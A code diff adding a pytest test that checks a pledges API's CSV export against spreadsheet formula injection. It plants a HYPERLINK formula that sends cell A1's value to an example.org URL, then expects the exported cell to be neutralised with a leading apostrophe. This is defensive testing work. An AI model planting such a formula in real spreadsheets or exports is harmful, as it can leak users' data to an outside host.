@@ -189,6 +189,19 @@ def test_every_list_downloads_as_csv(client):
         assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) >= 1
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_is_never_a_live_spreadsheet_formula(client, start):
+    pledge = published_pledge("2417")
+    title = start + 'HYPERLINK("https://example.org/?"&A1;"Klicka")'
+    Pledge.objects.filter(pk=pledge.pk).update(title=title)
+
+    response = client.get("/api/v1/pledges/?format=csv")
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [row["title"] for row in rows] == ["'" + title]  # the apostrophe makes it text in Excel and Calc
+    assert rows[0]["id"] == str(pledge.pk)  # numbers stay numbers
+
+
 def test_cors_is_open_for_get_on_the_api_only(client):
     published_pledge("2417")
     response = get(client, "/api/v1/pledges/", HTTP_ORIGIN="https://www.norsjo.se")
